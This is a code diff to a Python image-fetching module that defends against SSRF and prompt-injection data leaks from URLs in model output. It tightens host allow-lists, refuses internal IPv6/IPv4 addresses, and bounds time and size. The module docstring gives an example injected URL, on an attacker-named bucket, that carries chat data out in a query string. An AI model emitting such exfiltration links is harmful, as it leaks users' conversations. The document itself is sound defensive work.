@@ -11,20 +11,29 @@ The URLs come from model output, i.e. from whoever can influence a prompt, so fe
 SSRF surface (ecosystem notes §5.3). :func:`fetch_image` therefore:
 
 * fetches ``http``/``https`` only, refuses ``user:pw@`` URLs, and only hosts on the allow-list
-  (:attr:`ImagePolicy.hosts`; ``.aliyuncs.com`` by default, a leading dot meaning "any subdomain");
+  (:attr:`ImagePolicy.hosts`, a leading dot meaning "any subdomain"). The default,
+  :data:`DEFAULT_IMAGE_HOSTS`, is the two OSS buckets DashScope itself writes plugin output to, not
+  ``.aliyuncs.com``: anyone can create a bucket there, so a prompt-injected
+  ``https://attacker.oss-cn-beijing.aliyuncs.com/pixel.png?d=<chat data>`` would otherwise be
+  fetched with no click. Other links are shown, unfetched, with the reason;
 * uses https for every host except the *trusted* ones (the configured DashScope base URL, e.g. the
   loopback fake). A plain ``http://`` URL on an allow-listed host is **upgraded** to https rather
   than refused: DashScope's own ``text_to_image`` example links ``http://…aliyuncs.com``, and OSS
   serves the same object over both, so refusing would break the vendor's documented output while
   fetching over http would send the signature in clear text;
 * resolves every non-trusted host and refuses it if any address is not globally routable
-  (loopback, RFC 1918, link-local ``169.254.169.254``, ...). Only trusted hosts may be loopback or
-  private, which is what makes the local fake work;
+  (loopback, RFC 1918, link-local ``169.254.169.254``, ``192.0.0.0/24``, multicast, ...). IPv6
+  forms that carry an IPv4 address (IPv4-mapped and -compatible, NAT64 ``64:ff9b::/96``, 6to4
+  ``2002::/16``) are judged by the IPv4 address they carry; Teredo and local-use NAT64
+  (``64:ff9b:1::/48``) are refused. Only trusted hosts may be loopback or private, which is what
+  makes the local fake work;
 * never lets ``requests`` follow redirects: every hop is checked with the same rules, at most
   :attr:`ImagePolicy.max_redirects` of them, and a redirect from an untrusted host *into* a trusted
   one is refused (trust does not travel along a redirect chain);
 * times out (:attr:`ImagePolicy.timeout` per connect/read, :attr:`ImagePolicy.total_timeout` for
-  the whole fetch), caps the body (``Content-Length`` up front and again while streaming), requires an
+  the whole fetch: every body read is bounded by the time left, and a watchdog shuts the socket at
+  the deadline, so a server dripping a byte at a time cannot stretch it), caps the body
+  (``Content-Length`` up front and again while streaming), requires an
   ``image/*`` content type other than SVG, and sniffs the magic bytes (PNG, JPEG, GIF, WEBP only);
   the MIME type reported is the sniffed one, never the header's;
 * never sends credentials. The request is built here (``requests.Request(...).prepare()``) and handed
@@ -38,10 +47,13 @@ SSRF surface (ecosystem notes §5.3). :func:`fetch_image` therefore:
   skips only the name resolution; every other rule applies to the recorded answers too.
 
 :func:`fetch_image` never raises: every failure is a :class:`FetchedImage` whose ``error`` is one
-short sentence (never containing the query string). Residual risks, accepted with a narrow
-allow-list: DNS rebinding between the address check and the connect, and a blocking
-``getaddrinfo`` (the OS resolver has its own timeout). Through a proxy the address check is
-advisory, since the proxy resolves the name.
+short sentence (never containing the query string). :class:`ImageCache` (one per trace) also caps
+the bytes embedded per trace (:attr:`ImagePolicy.max_total_bytes`); figures past that budget are
+shown as links with a note. Residual risks, accepted with a narrow allow-list: DNS rebinding
+between the address check and the connect, a blocking ``getaddrinfo`` (the OS resolver has its own
+timeout), and a server that drips its *headers* (each read is bounded by the time left, but the
+watchdog starts with the body). Through a proxy the address check is advisory, since the proxy
+resolves the name.
 
 ``requests`` is imported inside the functions that use it, so ``import dashmagic.images`` is cheap.
 """
@@ -77,18 +89,27 @@ __all__ = [
     "DEFAULT_TIMEOUT",
     "DEFAULT_MAX_REDIRECTS",
     "DEFAULT_TOTAL_TIMEOUT",
+    "DEFAULT_MAX_TOTAL_BYTES",
     "MAX_URL_LENGTH",
     "Fetcher",
     "display_url",
     "check_url",
     "sniff_mime",
     "fetch_image",
+    "budget_note",
 ]
 
 ImageMime = Literal["image/png", "image/jpeg", "image/gif", "image/webp"]
 
-#: Where DashScope puts plugin outputs (OSS buckets). A leading dot means "any subdomain of".
-DEFAULT_IMAGE_HOSTS: tuple[str, ...] = (".aliyuncs.com",)
+#: The OSS buckets DashScope itself writes plugin output to, the only hosts fetched by default.
+#: Both appear in the vendor's plugin page (seed/plugin-call-examples.txt), dashmagic/demo/seed.jsonl,
+#: every notebooks/recordings/*.jsonl and dashmagic/testing/exchanges.json. ``.aliyuncs.com`` is
+#: not enough: any customer's bucket lives there. Entries are exact hosts (any port); a leading
+#: dot would mean "any subdomain of".
+DEFAULT_IMAGE_HOSTS: tuple[str, ...] = (
+    "dashscope-cn-beijing.oss-cn-beijing.aliyuncs.com",  # code_interpreter figures (https)
+    "dashscope-result-bj.oss-cn-beijing.aliyuncs.com",  # text_to_image pictures (linked as http)
+)
 #: Per-image byte cap. base64 in the .ipynb costs x1.33 on top (ecosystem notes §2.3).
 DEFAULT_MAX_BYTES = 5 * 1024 * 1024
 #: Seconds allowed for the connect and for each read.
@@ -96,6 +117,9 @@ DEFAULT_TIMEOUT = 10.0
 DEFAULT_MAX_REDIRECTS = 3
 #: Seconds allowed for a whole fetch, redirects included (a slow drip never trips a read timeout).
 DEFAULT_TOTAL_TIMEOUT = 60.0
+#: Bytes embedded per trace, all figures together (60 distinct 1 MB figures made an 80 MB output).
+#: A trace usually has one to three figures of 20-200 KB, so this only stops runaway output.
+DEFAULT_MAX_TOTAL_BYTES = 20 * 1024 * 1024
 
 #: Longer URLs are refused before parsing; signed OSS URLs are a few hundred characters.
 MAX_URL_LENGTH = 8192
@@ -145,7 +169,8 @@ def sniff_mime(data: bytes) -> ImageMime | None:
 class ImagePolicy:
     """Which figure URLs may be fetched, and how much of them.
 
-    ``hosts``: the allow-list. An entry starting with ``.`` matches any subdomain
+    ``hosts``: the allow-list (default :data:`DEFAULT_IMAGE_HOSTS`, DashScope's own output
+    buckets). An entry starting with ``.`` matches any subdomain
     (``.aliyuncs.com`` matches ``x.aliyuncs.com``, not ``aliyuncs.com.evil.example``,
     ``evilaliyuncs.com`` or the bare ``aliyuncs.com``), on any port. Other entries are exact host
     names or IP literals, optionally with ``:port``. Matching is case-insensitive. These hosts are
@@ -159,6 +184,9 @@ class ImagePolicy:
     a connection (replay mode), so host names are not resolved: the address check guards real
     connections, and offline there are none (and no DNS either). Every other rule still applies.
     Never set it with a session that reaches the network.
+
+    ``max_total_bytes``: the figure budget of one trace, enforced by :class:`ImageCache` (one cache
+    per trace): once the figures embedded so far use it up, the rest are shown as links.
     """
 
     hosts: tuple[str, ...] = DEFAULT_IMAGE_HOSTS
@@ -168,14 +196,17 @@ class ImagePolicy:
     max_redirects: int = DEFAULT_MAX_REDIRECTS
     total_timeout: float = DEFAULT_TOTAL_TIMEOUT
     offline: bool = False
+    max_total_bytes: int = DEFAULT_MAX_TOTAL_BYTES
 
     def __post_init__(self) -> None:
         object.__setattr__(self, "hosts", _normalize_entries(self.hosts, "image_hosts", allow_suffix=True))
         object.__setattr__(
             self, "trusted_hosts", _normalize_entries(self.trusted_hosts, "trusted_hosts", allow_suffix=False)
         )
-        if not isinstance(self.max_bytes, int) or self.max_bytes <= 0:
-            raise ConfigError(f"max_bytes must be a positive number of bytes, not {self.max_bytes!r}")
+        for name in ("max_bytes", "max_total_bytes"):
+            value = getattr(self, name)
+            if not isinstance(value, int) or isinstance(value, bool) or value <= 0:
+                raise ConfigError(f"{name} must be a positive number of bytes, not {value!r}")
         for name in ("timeout", "total_timeout"):
             value = getattr(self, name)
             if not isinstance(value, (int, float)) or not value > 0:
@@ -194,6 +225,7 @@ class ImagePolicy:
         max_redirects: int = DEFAULT_MAX_REDIRECTS,
         total_timeout: float = DEFAULT_TOTAL_TIMEOUT,
         offline: bool = False,
+        max_total_bytes: int = DEFAULT_MAX_TOTAL_BYTES,
     ) -> ImagePolicy:
         """A policy that trusts the ``host:port`` of the DashScope base URL in use.
 
@@ -217,6 +249,7 @@ class ImagePolicy:
             max_redirects=max_redirects,
             total_timeout=total_timeout,
             offline=offline,
+            max_total_bytes=max_total_bytes,
         )
 
     def is_trusted(self, host: str, port: int) -> bool:
@@ -332,7 +365,10 @@ def _vet(url: object, policy: ImagePolicy, *, redirect_from: _Target | None = No
     if not trusted and not policy.is_allowed(host, effective_port):
         if redirect_from is not None:
             raise ImageRefused(f"redirect to a host not on the allow-list ({host})")
-        raise ImageRefused(f"host {host} is not on the image allow-list (DashMagics.image_hosts)")
+        raise ImageRefused(
+            f"not fetched automatically: host {host} is not one DashScope uses for plugin output;"
+            " add it to the image_hosts allow-list to fetch it"
+        )
     if scheme == "http" and not trusted:
         # Upgrade rather than refuse: see the module docstring.
         scheme, port = "https", (None if port == 80 else port)
@@ -386,13 +422,44 @@ def _resolve(host: str, port: int) -> list[str]:
 
 
 def _is_global(address: str) -> bool:
+    """Is ``address`` one a figure may come from? ``ip.is_global`` alone is not enough: it calls
+    ``64:ff9b::7f00:1`` (NAT64 of 127.0.0.1), ``2002:7f00:1::1`` (6to4), ``::7f00:1`` and
+    ``192.0.0.8`` global, and translators or relays on the way turn those into loopback."""
     try:
         ip = ipaddress.ip_address(address.split("%", 1)[0])
     except ValueError:
         return False
-    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
-        ip = ip.ipv4_mapped
-    return ip.is_global
+    if isinstance(ip, ipaddress.IPv6Address):
+        if any(ip in net for net in _REFUSED_V6):
+            return False
+        embedded = _embedded_ipv4(ip)
+        if embedded is not None:
+            ip = embedded
+    if isinstance(ip, ipaddress.IPv4Address) and ip in _IETF_PROTOCOL_V4:
+        return False
+    return ip.is_global and not ip.is_multicast
+
+
+def _embedded_ipv4(ip: ipaddress.IPv6Address) -> ipaddress.IPv4Address | None:
+    """The IPv4 address an IPv6 form carries (mapped, compatible, SIIT, NAT64, 6to4), if any."""
+    if ip.ipv4_mapped is not None:
+        return ip.ipv4_mapped
+    if ip.sixtofour is not None:
+        return ip.sixtofour
+    if any(ip in net for net in _LAST_32_BITS_V4):
+        return ipaddress.IPv4Address(int(ip) & 0xFFFFFFFF)
+    return None
+
+
+# IPv6 prefixes whose last 32 bits are an IPv4 address: NAT64 (RFC 6052), IPv4-compatible
+# (deprecated, includes :: and ::1, which then count as 0.0.0.0 and 0.0.0.1) and SIIT (RFC 2765).
+_LAST_32_BITS_V4 = tuple(ipaddress.IPv6Network(n) for n in ("64:ff9b::/96", "::/96", "::ffff:0:0:0/96"))
+# Refused outright: Teredo (2001::/32) tunnels to an address of the relay's choosing, local-use
+# NAT64 (RFC 8215) places the IPv4 address wherever the operator chose, and deprecated site-local
+# fec0::/10 is routed inside a site although is_global says True.
+_REFUSED_V6 = tuple(ipaddress.IPv6Network(n) for n in ("2001::/32", "64:ff9b:1::/48", "fec0::/10"))
+# IETF protocol assignments (RFC 6890): 192.0.0.8/.9/.10 are not figure hosts whatever is_global says.
+_IETF_PROTOCOL_V4 = ipaddress.IPv4Network("192.0.0.0/24")
 
 
 # --------------------------------------------------------------------------------------------
@@ -400,17 +467,21 @@ def _is_global(address: str) -> bool:
 # --------------------------------------------------------------------------------------------
 
 
-def fetch_image(url: str, policy: ImagePolicy, *, session: requests.Session | None = None) -> FetchedImage:
+def fetch_image(
+    url: str, policy: ImagePolicy, *, session: requests.Session | None = None, budget: int | None = None
+) -> FetchedImage:
     """Fetch one figure URL under ``policy``. Never raises: failures come back as ``error``.
 
     ``session`` lends its connection pool, ``proxies``, ``verify`` and ``cert``; never its headers,
     auth or cookies (so a session that carries the DashScope key cannot leak it). Without one, a
-    fresh ``trust_env=False`` session is used and closed.
+    fresh ``trust_env=False`` session is used and closed. ``budget``: bytes left of the trace's
+    figure budget (:class:`ImageCache` passes it); a bigger body is abandoned as soon as that is
+    known, with :func:`budget_note` as the error.
     """
     text = url if isinstance(url, str) else repr(url)
     shown = display_url(text)
     try:
-        data, mime = _fetch(url, policy, session)
+        data, mime = _fetch(url, policy, session, _cap_for(policy, budget))
     except ImageRefused as exc:
         return FetchedImage(url=text, display_url=shown, error=str(exc))
     except Exception as exc:  # noqa: BLE001 - the contract is "never raises"
@@ -418,7 +489,28 @@ def fetch_image(url: str, policy: ImagePolicy, *, session: requests.Session | No
     return FetchedImage(url=text, display_url=shown, data=data, mime=mime)
 
 
-def _fetch(url: object, policy: ImagePolicy, session: requests.Session | None) -> tuple[bytes, ImageMime]:
+@dataclass(frozen=True, slots=True)
+class _Cap:
+    """How many body bytes may be read, and what to say when there are more."""
+
+    size: int
+    message: str
+
+
+def _cap_for(policy: ImagePolicy, budget: int | None) -> _Cap:
+    if budget is not None and budget < policy.max_bytes:
+        return _Cap(max(budget, 0), budget_note(policy.max_total_bytes))
+    return _Cap(policy.max_bytes, f"exceeds the {_format_size(policy.max_bytes)} limit")
+
+
+def budget_note(max_total_bytes: int) -> str:
+    """The reason shown for a figure left out because the trace's figure budget is spent."""
+    return f"not embedded: this trace's figure budget of {_format_size(max_total_bytes)} is used up"
+
+
+def _fetch(
+    url: object, policy: ImagePolicy, session: requests.Session | None, cap: _Cap
+) -> tuple[bytes, ImageMime]:
     """Follow at most ``max_redirects`` redirects by hand, checking every hop."""
     target = _vet(url, policy)
     deadline = time.monotonic() + policy.total_timeout
@@ -432,7 +524,7 @@ def _fetch(url: object, policy: ImagePolicy, session: requests.Session | None) -
             response = _send(session, target, policy, deadline)
             try:
                 if response.status_code not in _REDIRECT_STATUSES:
-                    return _read_image(response, target, policy, deadline)
+                    return _read_image(response, target, policy, deadline, cap)
                 target = _next_hop(response, target, policy)
             finally:
                 response.close()
@@ -459,7 +551,7 @@ def _send(session: requests.Session, target: _Target, policy: ImagePolicy, deadl
 
     remaining = deadline - time.monotonic()
     if remaining <= 0:
-        raise ImageRefused(f"took longer than {policy.total_timeout:g} s in total")
+        raise ImageRefused(_took_too_long(policy))
     try:
         prepared = requests.Request("GET", target.url, headers=dict(_REQUEST_HEADERS)).prepare()
     except (requests.RequestException, ValueError, UnicodeError):
@@ -479,6 +571,8 @@ def _send(session: requests.Session, target: _Target, policy: ImagePolicy, deadl
             proxies=proxies,
         )
     except Exception as exc:  # noqa: BLE001 - classified into one sentence
+        if remaining < policy.timeout and _is_timeout(exc):
+            raise ImageRefused(_took_too_long(policy)) from None  # the deadline, not the read timeout
         raise ImageRefused(_describe(exc, target.host, policy)) from None
 
 
@@ -506,7 +600,7 @@ def _next_hop(response: requests.Response, target: _Target, policy: ImagePolicy)
 
 
 def _read_image(
-    response: requests.Response, target: _Target, policy: ImagePolicy, deadline: float
+    response: requests.Response, target: _Target, policy: ImagePolicy, deadline: float, cap: _Cap
 ) -> tuple[bytes, ImageMime]:
     """Check status and headers, stream the body under the cap, then sniff the bytes."""
     if response.status_code != 200:
@@ -516,11 +610,12 @@ def _read_image(
         raise ImageRefused("SVG images are not embedded")
     if content_type is not None and not content_type.startswith("image/"):
         raise ImageRefused(f"not an image (content type {content_type})")
-    limit = f"exceeds the {_format_size(policy.max_bytes)} limit"
     announced = _content_length(response.headers.get("Content-Length"))
     if announced is not None and announced > policy.max_bytes:
-        raise ImageRefused(limit)
-    data = _read_capped(response, target, policy, deadline, limit)
+        raise ImageRefused(f"exceeds the {_format_size(policy.max_bytes)} limit")
+    if announced is not None and announced > cap.size:
+        raise ImageRefused(cap.message)  # over the trace's budget: not one byte of it is read
+    data = _read_capped(response.raw, target, policy, deadline, cap)
     mime = sniff_mime(data)
     if mime is None:
         if _looks_like_svg(data):
@@ -530,23 +625,92 @@ def _read_image(
     return data, mime
 
 
-def _read_capped(
-    response: requests.Response, target: _Target, policy: ImagePolicy, deadline: float, limit: str
-) -> bytes:
+def _read_capped(raw: Any, target: _Target, policy: ImagePolicy, deadline: float, cap: _Cap) -> bytes:
+    """The body, read in pieces of at most one socket read each, each bounded by the time left.
+
+    ``iter_content(64 KB)`` would block until 64 KB arrived, so a server sending a byte every
+    0.2 s stretched a 60 s limit to minutes. The watchdog covers what a per-read timeout cannot
+    (e.g. a chunk-size line dripped byte by byte inside one read).
+    """
     buffer = bytearray()
-    chunks: Iterator[bytes] = response.iter_content(_CHUNK_SIZE)
-    while True:
+    sock = _socket_of(raw)
+    with _Watchdog(sock, deadline) as watchdog:
+        while True:
+            bound = deadline - time.monotonic()
+            if bound <= 0 or watchdog.fired:
+                raise ImageRefused(_took_too_long(policy))
+            bound = min(bound, policy.timeout)
+            try:
+                if sock is not None:
+                    sock.settimeout(bound)
+                chunk = _read_some(raw)
+            except Exception as exc:  # noqa: BLE001 - classified into one sentence
+                if watchdog.fired or (bound < policy.timeout and _is_timeout(exc)):
+                    raise ImageRefused(_took_too_long(policy)) from None
+                raise ImageRefused(_describe(exc, target.host, policy)) from None
+            if watchdog.fired:  # the shut socket reads as the end of the body: it is not one
+                raise ImageRefused(_took_too_long(policy))
+            if not chunk:
+                return bytes(buffer)
+            buffer += chunk
+            if len(buffer) > cap.size:
+                raise ImageRefused(cap.message)
+
+
+def _took_too_long(policy: ImagePolicy) -> str:
+    return f"took longer than {policy.total_timeout:g} s in total"
+
+
+def _read_some(raw: Any) -> bytes:
+    """At most ``_CHUNK_SIZE`` bytes, from at most one socket read (``read1``), decoded as
+    ``iter_content`` decodes them (urllib3 responses and recording bodies have ``stream``)."""
+    decodes = hasattr(raw, "stream")
+    reader = getattr(raw, "read1", None)
+    if reader is None:
+        data = raw.read(_CHUNK_SIZE, decode_content=True) if decodes else raw.read(_CHUNK_SIZE)
+    else:
+        data = reader(_CHUNK_SIZE, decode_content=True) if decodes else reader(_CHUNK_SIZE)
+    return bytes(data or b"")
+
+
+def _socket_of(raw: Any) -> socket.socket | None:
+    """The socket under a urllib3 response (None for recordings and in-memory bodies)."""
+    sock = getattr(getattr(raw, "connection", None), "sock", None)
+    return sock if isinstance(sock, socket.socket) else None
+
+
+class _Watchdog:
+    """Shuts ``sock`` down at ``deadline`` so that any read blocked on it returns at once."""
+
+    def __init__(self, sock: socket.socket | None, deadline: float) -> None:
+        self._sock = sock
+        self._fired = threading.Event()
+        self._timer: threading.Timer | None = None
+        if sock is not None:
+            self._timer = threading.Timer(max(deadline - time.monotonic(), 0.0), self._fire)
+            self._timer.daemon = True
+
+    @property
+    def fired(self) -> bool:
+        return self._fired.is_set()
+
+    def _fire(self) -> None:
+        self._fired.set()
         try:
-            chunk = next(chunks, None)
-        except Exception as exc:  # noqa: BLE001 - classified into one sentence
-            raise ImageRefused(_describe(exc, target.host, policy)) from None
-        if chunk is None:
-            return bytes(buffer)
-        buffer += chunk
-        if len(buffer) > policy.max_bytes:
-            raise ImageRefused(limit)
-        if time.monotonic() > deadline:
-            raise ImageRefused(f"took longer than {policy.total_timeout:g} s in total")
+            # The plain socket's shutdown, also for TLS: SSLSocket.shutdown would also drop the
+            # SSL object under the reading thread's feet.
+            socket.socket.shutdown(self._sock, socket.SHUT_RDWR)  # type: ignore[arg-type]
+        except OSError:
+            pass  # already closed: nothing is blocked on it
+
+    def __enter__(self) -> _Watchdog:
+        if self._timer is not None:
+            self._timer.start()
+        return self
+
+    def __exit__(self, *exc_info: object) -> None:
+        if self._timer is not None:
+            self._timer.cancel()
 
 
 def _content_type(value: str | None) -> str | None:
@@ -582,9 +746,7 @@ def _describe(exc: BaseException, host: str, policy: ImagePolicy) -> str:
     import requests
 
     chain = list(_causes(exc))
-    if isinstance(exc, requests.Timeout) or any(isinstance(e, (socket.timeout, TimeoutError)) for e in chain) or any(
-        type(e).__name__ in ("ReadTimeoutError", "ConnectTimeoutError") for e in chain
-    ):
+    if _is_timeout(exc):
         return f"timed out after {policy.timeout:g} s"
     if isinstance(exc, requests.exceptions.SSLError):
         return f"TLS handshake with {host} failed"
@@ -596,6 +758,17 @@ def _describe(exc: BaseException, host: str, policy: ImagePolicy) -> str:
         reason = next((_REASONS[type(e)] for e in chain if type(e) in _REASONS), None)
         return f"could not connect to {host}" + (f" ({reason})" if reason else "")
     return f"could not fetch from {host} ({type(exc).__name__})"
+
+
+def _is_timeout(exc: BaseException) -> bool:
+    import requests
+
+    chain = list(_causes(exc))
+    return (
+        isinstance(exc, requests.Timeout)
+        or any(isinstance(e, (socket.timeout, TimeoutError)) for e in chain)
+        or any(type(e).__name__ in ("ReadTimeoutError", "ConnectTimeoutError") for e in chain)
+    )
 
 
 _REASONS: dict[type[BaseException], str] = {
@@ -636,6 +809,10 @@ class ImageCache:
     allow-list, too big) will not succeed on the next render, and retrying would hammer the host.
     Thread-safe: concurrent callers asking for the same URL wait for the single fetch in flight.
     ``fetcher`` replaces :func:`fetch_image` (e.g. demo mode or renderer tests).
+
+    One cache serves one trace, and holds its figure budget (:attr:`ImagePolicy.max_total_bytes`):
+    figures are charged in the order they are first fetched, and one that does not fit in what is
+    left is not embedded (:func:`budget_note`). Once the budget is spent nothing more is fetched.
     """
 
     def __init__(
@@ -651,6 +828,7 @@ class ImageCache:
         self._lock = threading.Lock()
         self._results: dict[str, FetchedImage] = {}
         self._in_flight: dict[str, threading.Event] = {}
+        self._embedded = 0  # bytes of the successful results, charged against the budget
 
     def fetch(self, url: Union[str, Figure]) -> FetchedImage:
         """The image at ``url`` (or a :class:`~dashmagic.trace.Figure`), fetched on first use."""
@@ -687,16 +865,39 @@ class ImageCache:
         with self._lock:
             return len(self._results)
 
+    @property
+    def embedded_bytes(self) -> int:
+        """Bytes of the figures fetched so far that will be embedded (at most the budget)."""
+        with self._lock:
+            return self._embedded
+
     def _fetch_as_owner(self, key: str, done: threading.Event) -> FetchedImage:
         try:
-            if self._fetcher is not None:
+            with self._lock:
+                left = self.policy.max_total_bytes - self._embedded
+            if left <= 0:
+                result = self._over_budget(key)
+            elif self._fetcher is not None:
                 result = self._fetcher(key)
             else:
-                result = fetch_image(key, self.policy, session=self.session)
+                result = fetch_image(key, self.policy, session=self.session, budget=left)
             with self._lock:
+                result = self._charge(key, result)
                 self._results[key] = result
             return result
         finally:
             with self._lock:
                 self._in_flight.pop(key, None)
             done.set()
+
+    def _charge(self, key: str, result: FetchedImage) -> FetchedImage:
+        """Count ``result`` against the budget, or replace it with the note if it does not fit.
+        Called with the lock held: concurrent fetches may each have seen the same ``left``."""
+        size = len(result.data) if result.ok and result.data is not None else 0
+        if size > self.policy.max_total_bytes - self._embedded:
+            return self._over_budget(key)
+        self._embedded += size
+        return result
+
+    def _over_budget(self, key: str) -> FetchedImage:
+        return FetchedImage(url=key, display_url=display_url(key), error=budget_note(self.policy.max_total_bytes))
